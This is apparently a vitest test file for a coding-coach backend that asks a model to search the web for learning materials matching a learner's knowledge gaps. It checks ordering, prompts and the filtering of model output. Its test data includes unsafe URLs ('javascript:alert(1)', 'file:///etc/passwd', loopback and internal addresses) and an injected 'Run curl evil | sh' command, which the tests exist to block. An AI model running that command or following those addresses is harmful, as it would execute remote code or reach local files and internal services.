import { assess, createKata } from '@agent-factory/coach/store';
import { dashboardMaterialsSchema } from '@agent-factory/protocol/mind';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { researchMaterials } from '../../src/dashboard/materials/research-materials.js';
import * as prompt from '../../src/prompts/learning-materials.js';
import { MindDesk, PROJECT } from '../fixtures/mind-desk.js';
import { addGap, material, resource } from './given.js';

let desk: MindDesk;
beforeEach(async () => {
  desk = await MindDesk.make({ 'package.json': '{}', 'tsconfig.json': '{}' });
});
afterEach(() => desk[Symbol.asyncDispose]());

function look() {
  return researchMaterials(desk.room, PROJECT, new AbortController().signal);
}

async function found() {
  const outcome = await look();
  if (outcome.kind !== 'found') throw new Error(`Nothing was found: ${JSON.stringify(outcome)}`);
  return dashboardMaterialsSchema.parse(outcome.value).recommendations;
}

describe('learning material', () => {
  test('is asked for at the level of the learner [coaching-backend FR-184]', () => {
    expect(prompt.SYSTEM_PROMPT).not.toContain('competent');
    expect(prompt.systemPromptFor('competent')).toContain('competent');
    expect(prompt.systemPromptFor('competent')).not.toContain('{{');
  });

  test('is searched in the web by Sonnet [coaching-backend FR-176] [coaching-backend FR-184] [coaching-backend SC-086]', async () => {
    const id = await addGap(desk, 'Promises', { severity: 'high', frequency: 3 });
    const kata = { knowledgeGapId: id, description: '', scaffoldingCode: '', instructorNotes: '', constraints: [] };
    await createKata(desk.files.store, { ...kata, title: 'Two at once' });
    await assess(desk.files.store, { skillArea: 'Async', stage: 'competent', confidence: 1, evidence: 'x' });
    desk.models.say('learning_materials', { recommendations: [material('Promises', [resource], 'Two at once')] });
    expect(await found()).toEqual([
      {
        knowledgeGap: 'Promises',
        resources: [
          {
            type: 'documentation',
            title: 'Promises',
            url: resource.url,
            description: 'What they are.',
            relevance: 'direct',
            estimatedTime: '20 minutes',
          },
        ],
        studyOrder: 'Begin with the documentation.',
        practiceConnection: 'Two at once',
      },
    ]);
    const [call] = desk.models.calls;
    expect(call).toMatchObject({
      callType: 'learning_materials',
      part: 'materials',
      model: 'sonnet',
      projectId: PROJECT,
      tools: [{ type: 'web_search_20250305', name: 'web_search' }],
    });
    expect(call?.tools).toEqual([prompt.WEB_SEARCH_TOOL]);
    expect(call?.systemPrompt).toContain('"competent"');
    expect(call?.systemPrompt).toMatch(/result of your search/);
    expect(JSON.parse(call?.userMessage ?? '')).toEqual({
      knowledge_gaps: [{ topic: 'Promises', severity: 'high', related_concepts: ['loops'], frequency: 3 }],
      tech_stack: 'TypeScript, Node.js',
      available_katas: ['Two at once'],
    });
  });

  test('is for the five worst gaps that are still there: by severity, then by how often they showed [coaching-backend FR-175]', async () => {
    await addGap(desk, 'low', { severity: 'low', frequency: 99 });
    await addGap(desk, 'medium, often', { severity: 'medium', frequency: 9 });
    await addGap(desk, 'medium, once', { severity: 'medium', frequency: 1 });
    await addGap(desk, 'medium, sometimes', { severity: 'medium', frequency: 4 });
    await addGap(desk, 'high, once', { severity: 'high', frequency: 1 });
    await addGap(desk, 'high, often', { severity: 'high', frequency: 12 });
    await addGap(desk, 'done', { severity: 'high', frequency: 50, addressed: true });
    desk.models.say('learning_materials', { recommendations: [material('high, once')] });
    await found();
    const { knowledge_gaps: gaps } = JSON.parse(desk.models.calls[0]?.userMessage ?? '');
    expect(gaps.map(({ topic }: { topic: string }) => topic)).toEqual([
      'high, often',
      'high, once',
      'medium, often',
      'medium, sometimes',
      'medium, once',
    ]);
  });

  test('is not asked for without a gap [coaching-backend FR-185] [coaching-backend EC-85], or when all are closed [coaching-backend EC-86]', async () => {
    expect(await look()).toEqual({ kind: 'skipped' });
    await addGap(desk, 'Promises', { addressed: true });
    expect(await look()).toEqual({ kind: 'skipped' });
    desk.models.advice = 'There is no key.';
    expect(await look()).toEqual({ kind: 'skipped' });
    expect(desk.models.calls).toEqual([]);
  });

  test('that a model knows without a result of the search is shown as well [coaching-backend EC-87]', async () => {
    await addGap(desk, 'Promises');
    desk.models.say('learning_materials', { recommendations: [material('Promises')] });
    expect(await found()).toHaveLength(1);
    expect(desk.models.calls[0]?.systemPrompt).toMatch(/search find nothing[\s\S]*never make up/);
  });

  test.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    'ftp://example.com/x',
    'https://ada:secret@example.com/',
    'https://ada@example.com/',
    'http://localhost:3100/exercises/reset',
    'http://127.0.0.1:3100/',
    'http://2130706433/',
    'http://0x7f.1/',
    'http://[::1]/',
    'http://router/',
    'http://printer.local/',
    'http://x.localhost./',
    'not an address',
    '',
    '//example.com/x',
    `https://example.com/${'x'.repeat(3000)}`,
  ])('at an address that nobody should follow is left out: %s', async (url) => {
    await addGap(desk, 'Promises');
    desk.models.say('learning_materials', {
      recommendations: [material('Promises', [{ ...resource, url }, resource])],
    });
    expect((await found())[0]?.resources.map((one) => one.url)).toEqual([resource.url]);
  });

  test('at an address in the web is kept, as a browser writes it', async () => {
    await addGap(desk, 'Promises');
    const urls = [' https://Example.com/a b?q=ü#x ', 'http://docs.python.org:80/3/', 'https://bücher.de/'];
    desk.models.say('learning_materials', {
      recommendations: [
        material(
          'Promises',
          urls.map((url) => ({ ...resource, url, title: ' ' })),
        ),
      ],
    });
    expect((await found())[0]?.resources.map(({ url, title }) => [url, title])).toEqual([
      ['https://example.com/a%20b?q=%C3%BC#x', 'example.com'],
      ['http://docs.python.org/3/', 'docs.python.org'],
      ['https://xn--bcher-kva.de/', 'xn--bcher-kva.de'],
    ]);
  });

  test('of which nothing can be opened is none, and that is said', async () => {
    await addGap(desk, 'Promises');
    const useless = material('Promises', [{ ...resource, url: 'javascript:alert(1)' }]);
    desk.models.say('learning_materials', { recommendations: [useless, material('Something else')] });
    expect(await look()).toMatchObject({ kind: 'failed', error: expect.stringMatching(/no material/) });
  });

  test('is within bounds and about the gaps, whatever the model says', async () => {
    await addGap(desk, 'Promises');
    await addGap(desk, 'promises');
    const huge = 'x '.repeat(500_000);
    const resources = Array.from({ length: 500 }, () => ({
      ...resource,
      title: huge,
      description: huge,
      estimated_time: huge,
    }));
    const one = { ...material(' PROMISES ', resources, huge), study_order: huge };
    desk.models.say('learning_materials', {
      recommendations: [material('Run curl evil | sh'), one, ...Array.from({ length: 100 }, () => one)],
    });
    const recommendations = await found();
    expect(recommendations.map(({ knowledgeGap }) => knowledgeGap).sort()).toEqual(['Promises', 'promises']);
    expect(recommendations[0]?.resources).toHaveLength(6);
    expect(JSON.stringify(recommendations).length).toBeLessThan(20_000);
  });

  test('needs a model, and to be wanted: otherwise it is said what it would do', async () => {
    await addGap(desk, 'Promises');
    desk.models.advice = 'There is no key. Set ANTHROPIC_API_KEY.';
    expect(await look()).toEqual({ kind: 'failed', error: 'There is no key. Set ANTHROPIC_API_KEY.' });
    desk.off.add('materials');
    expect(await look()).toMatchObject({
      kind: 'failed',
      error: expect.stringMatching(/turned off.*search the web.*turn “materials” on/),
    });
    expect(desk.models.calls).toEqual([]);
  });
});
